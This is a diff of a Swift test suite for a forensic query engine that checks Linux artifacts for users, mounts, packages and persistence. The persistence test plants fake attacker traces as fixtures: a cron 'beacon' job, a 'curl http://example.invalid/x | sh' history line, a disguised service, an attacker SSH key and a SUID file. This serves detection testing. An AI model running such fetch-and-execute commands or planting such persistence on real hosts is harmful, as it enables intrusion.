@@ -35,10 +35,14 @@ import VQL
         #expect(users.first?.member("Uid").stringValue == "0")
         let groups = try Self.host("SELECT * FROM Artifact.Linux.Sys.Groups() WHERE Group = 'root'").rows
         #expect(groups.first?.member("GID").intValue == 0)
-        let mounts = try Self.host("SELECT * FROM Artifact.Linux.Mounts() WHERE Mountpoint = '/proc'").rows
-        #expect(!mounts.isEmpty)
-        let packages = try Self.host("SELECT * FROM Artifact.Linux.Debian.Packages() WHERE Package = 'dpkg'").rows
-        #expect(packages.first?.member("Status").stringValue == "install ok installed")
+        #expect(users.first?.member("Shell").stringValue?.hasSuffix("sh") == true)
+        let mounts = try Self.host("SELECT * FROM Artifact.Linux.Mounts() WHERE Mount = '/proc'").rows
+        #expect(mounts.first?.member("FSType").stringValue == "proc")
+        #expect(mounts.first.map { JSONWriter.string($0.member("Options")) }?.hasPrefix("[") == true)
+        let packages = try Self.host("SELECT * FROM Artifact.Linux.Debian.Packages(source='DebPackages') WHERE Package = 'dpkg'").rows
+        #expect(packages.first?.member("State").stringValue == "installed")
+        #expect(packages.first?.member("_SelectionState").stringValue == "install")
+        #expect(packages.first?.member("InstalledSize").stringValue?.isEmpty == false)
     }
 
     @Test func pslistAndNetstatSeeThisProcess() throws {
@@ -73,23 +77,31 @@ import VQL
     @Test func persistenceArtifactsReadWhatTheyAreGiven() throws {
         let dir = try Self.scratch()
         defer { try? FileManager.default.removeItem(atPath: dir) }
-        try "# comment\nSHELL=/bin/sh\n*/5 * * * * root /usr/local/bin/beacon --quiet\n".write(toFile: dir + "/crontab", atomically: true, encoding: .utf8)
+        try "# comment\nSHELL=/bin/sh\n*/5 * * * * root /usr/local/bin/beacon --quiet\n@reboot /opt/start.sh\n".write(toFile: dir + "/crontab", atomically: true, encoding: .utf8)
         try "ls -la\ncurl http://example.invalid/x | sh\n".write(toFile: dir + "/.bash_history", atomically: true, encoding: .utf8)
         try "[Unit]\nDescription=Totally Legit\n[Service]\nExecStart=/opt/evil --daemon\n".write(toFile: dir + "/legit.service", atomically: true, encoding: .utf8)
-        try "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0wmN/Cr3JXqmLW7u+g9pTh+wyqDHpSQEC8nTV4y7Q7 attacker@box\n".write(toFile: dir + "/authorized_keys", atomically: true, encoding: .utf8)
+        try "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0wmN/Cr3JXqmLW7u+g9pTh+wyqDHpSQEC8nTV4y7Q7 attacker@box\n# old key\ncommand=\"/bin/date\",no-pty ssh-rsa AAAAB3NzaC1yc2E backup\n".write(toFile: dir + "/authorized_keys", atomically: true, encoding: .utf8)
         _ = FileManager.default.createFile(atPath: dir + "/suid-tool", contents: Data("#!/bin/sh\n".utf8), attributes: [.posixPermissions: 0o4755])
         let cron = try Self.host("SELECT * FROM Artifact.Linux.Sys.Crontab(cronTabGlob=D + '/crontab')") { $0.root.set("D", .string(dir)) }.rows
-        #expect(cron.contains { $0.member("Schedule").member("Minute").stringValue == "*/5" && $0.member("Schedule").member("Command").stringValue?.contains("beacon") == true })
-        let history = try Self.host("SELECT * FROM Artifact.Linux.Sys.BashHistory(historyGlob=D + '/.bash_history')") { $0.root.set("D", .string(dir)) }.rows
-        #expect(history.map { $0.member("Command").stringValue ?? "" } == ["ls -la", "curl http://example.invalid/x | sh"])
+        #expect(cron.filter { $0.member("_Source").stringValue == "Linux.Sys.Crontab/CronTabs" }.count == 2)
+        #expect(cron.contains { $0.member("Minute").stringValue == "*/5" && $0.member("Command").stringValue == "root /usr/local/bin/beacon --quiet" })
+        #expect(cron.contains { $0.member("Event").stringValue == "@reboot" && $0.member("Command").stringValue == "/opt/start.sh" })
+        let history = try Self.host("SELECT * FROM Artifact.Linux.Sys.BashHistory(TargetGlob=D + '/.bash_history')") { $0.root.set("D", .string(dir)) }.rows
+        #expect(history.map { $0.member("Line").stringValue ?? "" } == ["ls -la", "curl http://example.invalid/x | sh"])
+        let curls = try Self.host("SELECT * FROM Artifact.Linux.Sys.BashHistory(TargetGlob=D + '/.bash_history', SearchRegex='curl|ls', WhitelistRegex='^ls')") { $0.root.set("D", .string(dir)) }.rows
+        #expect(curls.map { $0.member("Line").stringValue ?? "" } == ["curl http://example.invalid/x | sh"])
         let services = try Self.host("SELECT * FROM Artifact.Linux.Sys.Services(unitGlob=D + '/*.service')") { $0.root.set("D", .string(dir)) }.rows
         #expect(services.first?.member("Description").stringValue == "Totally Legit")
         #expect(services.first?.member("ExecStart").stringValue == "/opt/evil --daemon")
-        let keys = try Self.host("SELECT * FROM Artifact.Linux.Ssh.AuthorizedKeys(keysGlob=D + '/authorized_keys')") { $0.root.set("D", .string(dir)) }.rows
-        #expect(keys.first?.member("Entry").member("Comment").stringValue == "attacker@box")
-        #expect(keys.first?.member("Entry").member("KeyType").stringValue == "ssh-ed25519")
-        let suid = try Self.host("SELECT * FROM Artifact.Linux.Sys.SUID(searchGlob=D + '/**')") { $0.root.set("D", .string(dir)) }.rows
-        #expect(suid.map { $0.member("Path").stringValue ?? "" } == [dir + "/suid-tool"])
+        let keys = try Self.host("SELECT * FROM Artifact.Linux.Ssh.AuthorizedKeys(sshKeyFilesGlob=D + '/authorized_keys')") { $0.root.set("D", .string(dir)) }.rows
+        #expect(keys.count == 2)
+        #expect(keys.first?.member("comment").stringValue == "attacker@box")
+        #expect(keys.first?.member("keytype").stringValue == "ssh-ed25519")
+        #expect(keys.last.map { JSONWriter.string($0.member("options")) } == #"["command=/bin/date","no-pty"]"#)
+        let suid = try Self.host("SELECT * FROM Artifact.Linux.Sys.SUID(GlobExpression=D + '/**')") { $0.root.set("D", .string(dir)) }.rows
+        #expect(suid.map { $0.member("OSPath").stringValue ?? "" } == [dir + "/suid-tool"])
+        #expect(suid.first?.member("Mode").stringValue?.hasPrefix("u") == true)
+        #expect(suid.first?.member("OwnerID").intValue == Int64(getuid()))
     }
 
     @Test func fileFinderWithYaraHashAndUpload() throws {
